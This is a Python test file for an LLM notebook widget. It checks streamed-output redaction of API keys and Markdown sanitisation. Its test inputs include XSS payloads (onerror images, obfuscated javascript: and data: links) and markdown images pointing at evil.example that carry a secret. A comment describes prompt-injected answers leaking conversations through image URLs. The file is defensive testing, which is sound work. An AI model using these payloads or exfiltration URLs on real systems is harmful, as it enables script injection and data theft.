"""The live pane (issue 16): each delta sent once, the rate coalesced on a fake clock, keys cut
across deltas never sent, the Markdown library sent once per kernel, and the static Markdown's
raw HTML shown as text. A recording comm stands in for the front end."""

from __future__ import annotations

import json
import re
from typing import Any

from live_view_support import INERT_TRICKS, Clock, Log, feed, words

from notebook_llm.secrets import register_secret
from notebook_llm.widgets import live
from notebook_llm.widgets.final import FinalView
from notebook_llm.widgets.live import HOLD_MAX, HOLD_TAIL, LivePane, RedactedStream
from notebook_llm.widgets.render import escape_raw_html, safe_url
from notebook_llm.widgets.stream_view import StreamView


def ops(log: Log) -> list[list[Any]]:
    """Every op the pane was sent, in order."""
    out: list[list[Any]] = []
    for kind, data in log:
        msg = json.loads(data)
        custom = kind == "comm_msg" and msg.get("method") == "custom"
        if custom and isinstance(msg["content"], list):
            out.extend(msg["content"])
    return out


def sent_text(log: Log, block: int = 0) -> str:
    return "".join(op[1] for op in ops(log) if op[0] == block)


def test_each_delta_is_sent_once_and_in_no_state(comms: Log) -> None:
    clock = Clock()
    view = StreamView("m", clock=clock)
    pieces = words(3000)
    feed(view, clock, pieces, dt=0.01)
    view.finish(status="done")
    answer = "".join(pieces)
    assert sent_text(comms) == answer  # every character once, in order, nothing re-sent
    assert not [d for k, d in comms if "word96 word0" in d and '"custom"' not in d]


def test_the_rate_is_coalesced_on_the_clock(comms: Log) -> None:
    clock = Clock()
    view = StreamView("m", clock=clock, max_rate=10)
    before = len(comms)
    feed(view, clock, words(2000), dt=0.005)  # 200 tokens/s for 10 s
    messages = [d for k, d in comms[before:] if k == "comm_msg"]
    assert 90 <= len(messages) <= 101  # 10 a second: one per 100 ms of the fake clock


def test_the_stats_line_rides_along_at_most_twice_a_second(comms: Log) -> None:
    clock = Clock()
    view = StreamView("m", clock=clock, max_rate=20)
    feed(view, clock, words(1000), dt=0.01)  # 10 s
    stats = [op for op in ops(comms) if op[0] == "s"]
    assert 10 <= len(stats) <= 21
    assert stats[-1][1].startswith("streaming · ~")


def test_a_key_cut_across_deltas_never_reaches_the_front_end(comms: Log) -> None:
    secret = "sk-test-SPLITSECRET-0123456789"
    register_secret(secret)
    clock = Clock()
    view = StreamView("m", clock=clock)
    text = f"the key is {secret} and Bearer abcdefghijklmnop1234 and ?key=zzzzzzzzzz9 end"
    pieces = [text[i : i + 3] for i in range(0, len(text), 3)]
    feed(view, clock, pieces, dt=1.0)  # a flush after every 3 characters
    view.finish(status="done")
    everything = " ".join(d for _, d in comms)
    assert "SPLITSECRET" not in everything
    assert "abcdefghijklmnop1234" not in everything
    assert "zzzzzzzzzz9" not in everything
    assert sent_text(comms) == "the key is *** and Bearer *** and ?key=*** end"


def test_a_long_run_without_white_space_is_sent_anyway() -> None:
    stream = RedactedStream()
    stream.push("x" * (HOLD_MAX + 10))
    assert len(stream.take()) == HOLD_MAX + 10 - HOLD_TAIL
    assert stream.take() == ""
    assert len(stream.take(final=True)) == HOLD_TAIL


def test_a_long_run_is_not_cut_inside_a_key_it_holds() -> None:
    """The long-run cut moves back to the start of a whole key that straddles it."""
    register_secret("sk-test-LEAKME-0123456789abcdef")
    stream = RedactedStream()
    stream.push("x" * 1990 + '"api":"sk-test-LEAKME-0123456789abcdef"' + "y" * 246)
    sent = stream.take() + stream.take(final=True)
    assert "LEAKME" not in sent
    assert '"api":"***"' in sent


def test_a_bearer_token_after_two_spaces_is_not_cut_from_its_word() -> None:
    stream = RedactedStream()
    sent = []
    for ch in "Authorization: Bearer  abcdefghijklmnop1234 done":
        stream.push(ch)
        sent.append(stream.take())
    sent.append(stream.take(final=True))
    assert "abcdefghijklmnop1234" not in "".join(sent)
    assert "".join(sent) == "Authorization: Bearer  *** done"


def test_the_markdown_library_is_sent_once_per_kernel_not_with_each_view(comms: Log) -> None:
    first, second = LivePane("m"), LivePane("n")
    opened = [json.loads(d)["state"] for k, d in comms if k == "comm_open"]
    panes = [s for s in opened if s["_model_name"] == "AnyModel"]
    libraries = [s for s in opened if "marked v18" in s.get("source", "")]
    assert len(panes) == 2
    assert len(libraries) == 1  # one model holds marked, for every pane of this kernel
    assert {p["lib"] for p in panes} == {live.library().model_id}
    for state in panes:
        assert "export default" in state["_esm"]  # the pane's own code, small
        assert "marked v18" not in state["_esm"]
        assert len(state["_esm"]) < 12_000
    assert [p["label"] for p in panes] == ["m", "n"]
    first.close()
    second.close()
    assert live.library().comm is not None  # the library outlives the views


def test_the_static_markdown_shows_raw_html_as_text() -> None:
    answer = (
        "# Title\n\n<img src=x onerror=alert(1)> `<kbd>` <https://example.org>\n"
        "[x](javascript:alert(2))\n\n```html\n<script>ok in code</script>\n```\n"
    )
    md = FinalView(answer, reasoning="<script>r</script>").markdown()
    assert "<img" not in md
    assert "&lt;img src=x onerror" in md
    assert "<code>&#60;kbd&#62;</code>" in md  # a code span shows its text, as references
    assert "<https://example.org>" in md  # an autolink stays a link
    assert "javascript:" not in md
    # a code block that would act if read as prose is written out as references
    assert '<pre><code class="language-html">&#60;script&#62;ok in code' in md
    assert "&lt;script>r" in md
    assert escape_raw_html("a < b and c") == "a &lt; b and c"


def test_the_static_markdown_allows_only_safe_link_targets_however_spelled() -> None:
    tricks = [
        "\\`<img src=x onerror=alert(1)>`",  # an escaped backtick opens no code span
        "[a]\n\n[a]: javascript:alert(1)",  # a reference definition
        "[a](jav&#97;script:alert(1))",  # a character reference
        "[a](java&#9;script:alert(1))",  # a tab the browser drops
        "![i](data:text/html;base64,PHNjcmlwdD4=)",
    ]
    for trick in tricks:
        md = escape_raw_html(trick)
        assert "<img" not in md, md
        assert "script:" not in md.replace("&#97;", "a").replace("&#9;", ""), md
        assert "data:" not in md, md
    kept = "[a](https://example.org) [b](/rel) [c](mailto:x@y.z)\n\n[r]: http://ok.example"
    assert escape_raw_html(kept) == kept


def test_no_markdown_trick_makes_the_escaped_answer_render_an_element() -> None:
    # Text the line scan takes for code where a renderer does not (and the reverse) must not
    # carry an image or raw HTML through (found in review: a "code span" from a heading into a
    # list item, a fence a list item ends, a backtick in a fence's info string...).
    import mistune

    for name, trick in INERT_TRICKS.items():
        rendered = str(mistune.html(escape_raw_html(trick)))
        assert "<img" not in rendered, (name, rendered)
        assert "<script" not in rendered, (name, rendered)
        targets = re.findall(r'href="([^"]*)"', rendered)
        assert not [t for t in targets if not safe_url(t)], (name, rendered)


def test_code_spans_show_their_text_as_code() -> None:
    import mistune

    md = escape_raw_html("use `std::vector<int>` and `` a`b `` here")
    assert "`" not in md
    assert "<int>" not in md
    rendered = str(mistune.html(md))
    assert "<code>std::vector&lt;int&gt;</code>" in html_unescape_entities(rendered)
    assert "<code>a`b</code>" in html_unescape_entities(rendered)


def html_unescape_entities(rendered: str) -> str:
    """``rendered`` with numeric character references decoded (``&lt;`` etc. kept)."""
    return re.sub(r"&#(\d+);", lambda m: chr(int(m.group(1))), rendered)


def test_an_image_in_an_answer_becomes_a_link_and_nothing_is_fetched() -> None:
    # A remote image is fetched as soon as it is shown, and a URL an answer chose can carry what
    # the answer knows (a prompt-injected answer leaking the conversation).
    import mistune  # nbconvert's Markdown renderer: what an HTML export of the notebook shows

    leaks = [
        "![leak](https://evil.example/x.png?q=secret)",
        "see ![r][ref]\n\n[ref]: https://evil.example/r.png",
        "\\\\![y](https://evil.example/y.png)",  # an escaped backslash, then an image
        "[![badge](https://evil.example/b.png)](https://ok.example)",
    ]
    for leak in leaks:
        html = str(mistune.html(escape_raw_html(leak)))
        assert "<img" not in html, html
        assert 'href="https://evil.example/' in html, html  # still one click away
    assert escape_raw_html("`![x](u)`") == "<code>&#33;&#91;x&#93;&#40;u&#41;</code>"  # code
    assert escape_raw_html("```\nx = [1, 2]\n```\n") == "```\nx = [1, 2]\n```\n"  # harmless: kept
    assert escape_raw_html("```\n![x](u)\n```\n") == (
        "<pre><code>&#33;&#91;x&#93;&#40;u&#41;&#10;</code></pre>\n"
    )
    # a block never closed keeps all of its lines, one that looks like another fence too
    assert (
        escape_raw_html("```\n<b>\n~~~")
        == "<pre><code>&#60;b&#62;&#10;&#126;&#126;&#126;</code></pre>"
    )
    assert escape_raw_html("\\![x](u)") == "\\![x](u)"  # already not an image
